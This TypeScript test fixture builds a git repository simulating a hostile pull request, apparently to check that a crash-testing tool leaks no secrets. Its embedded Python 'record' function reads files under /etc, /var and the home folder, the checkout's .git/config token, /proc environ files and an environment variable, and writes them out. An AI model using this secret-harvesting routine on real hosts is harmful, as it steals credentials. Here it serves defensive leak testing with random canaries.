// A hostile pull request as a git repository: the base records an item; the head's version of
// the function first loots every secret it can name (files in /etc, /var, /opt, /srv, /run and
// the home folder of the host, the checkout's .git/config with a token as actions/checkout
// leaves it, a symlink "inside" the tree to a host file, the parent's environment, an
// environment variable of the caller) and writes what it found into the database (the cells a
// review shows as evidence) and to stderr. Every secret holds one random canary.
import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { execa } from 'execa';

export interface HostilePr {
  /** The canary: it must appear in no output. */
  token: string;
  /** The environment variable that holds the canary in the caller's environment. */
  envName: string;
  /** Builds one more checkout of the pull request (a git repository, base `main`, head HEAD); `alsoLoot`: more paths the code tries. */
  build(alsoLoot?: string[]): Promise<string>;
  cleanUp(): void;
}

const SCENARIOS = `from crashprobe import scenario


@scenario("ledger/store.py:record")
def record_one(world):
    world.seed_sqlite("ledger.db", "CREATE TABLE items(id INTEGER PRIMARY KEY, name TEXT); INSERT INTO items VALUES (1, 'a'), (2, 'b');")
    return {"conn": world.sqlite("ledger.db"), "item": "x"}
`;

const BASE = `def record(conn, item):
    conn.execute("UPDATE items SET name = ? WHERE id = 1", (item,))
    conn.execute("UPDATE items SET name = ? WHERE id = 2", (item,))
    conn.commit()
`;

function head(names: string[], envName: string): string {
  return `import os
import sys

NAMES = ${JSON.stringify(names)}


def _loot():
    found = []
    for name in NAMES + ["/proc/%d/environ" % os.getppid(), "/proc/1/environ"]:
        try:
            with open(name, "rb") as handle:
                found.append(handle.read(4000).decode("latin-1"))
        except OSError:
            pass
    found.append(os.environ.get("${envName}", ""))
    return "|".join(text for text in found if text)


def record(conn, item):
    loot = _loot()
    print("loot:", loot, file=sys.stderr)
    conn.execute("UPDATE items SET name = ? WHERE id = 1", (item + loot,))
    conn.execute("UPDATE items SET name = ? WHERE id = 2", ("second" + loot,))
    conn.commit()
`;
}

export function hostilePr(): HostilePr {
  const id = randomBytes(6).toString('hex');
  const token = `cpcanary-${randomBytes(8).toString('hex')}`;
  const envName = `CP_PR_SECRET_${id}`;
  const planted: string[] = [];
  for (const file of [`/etc/cp-pr-${id}`, `/var/lib/cp-pr-${id}`, `/opt/cp-pr-${id}`, `/srv/cp-pr-${id}`, `/run/cp-pr-${id}`, path.join(os.homedir(), `.cp-pr-${id}`)]) {
    try {
      writeFileSync(file, `secret ${token}\n`, { mode: 0o644 });
      planted.push(file);
    } catch {
      // not writable here (not root): that canary is not planted
    }
  }
  const checkouts: string[] = [];
  return {
    token,
    envName,
    async build(alsoLoot: string[] = []) {
      const dir = mkdtempSync(path.join(os.tmpdir(), 'cp-hostile-pr-'));
      checkouts.push(dir);
      const git = (...args: string[]) =>
        execa('git', ['-c', 'user.name=hostile', '-c', 'user.email=hostile@example.invalid', '-c', 'commit.gpgsign=false', ...args], { cwd: dir });
      await git('init', '--quiet', '--initial-branch=main');
      mkdirSync(path.join(dir, 'ledger'));
      writeFileSync(path.join(dir, 'ledger', '__init__.py'), '');
      writeFileSync(path.join(dir, 'ledger', 'store.py'), BASE);
      writeFileSync(path.join(dir, 'crash_scenarios.py'), SCENARIOS);
      writeFileSync(path.join(dir, 'pyproject.toml'), '[project]\nname = "ledger"\n');
      await git('add', '-A');
      await git('commit', '--quiet', '-m', 'base');
      await git('checkout', '--quiet', '-b', 'loot');
      // As actions/checkout leaves it without persist-credentials: false.
      await git('config', 'http.https://github.com/.extraheader', `AUTHORIZATION: basic ${token}`);
      const names = [...planted, path.join(dir, '.git', 'config'), path.join(dir, 'ledger', 'notes.txt'), ...alsoLoot];
      symlinkSync(planted[0] ?? path.join(os.homedir(), `.cp-pr-${id}`), path.join(dir, 'ledger', 'notes.txt'));
      writeFileSync(path.join(dir, 'ledger', 'store.py'), head(names, envName));
      await git('add', '-A');
      await git('commit', '--quiet', '-m', 'record: with what it can find');
      return dir;
    },
    cleanUp() {
      for (const p of [...planted, ...checkouts]) rmSync(p, { recursive: true, force: true });
    },
  };
}
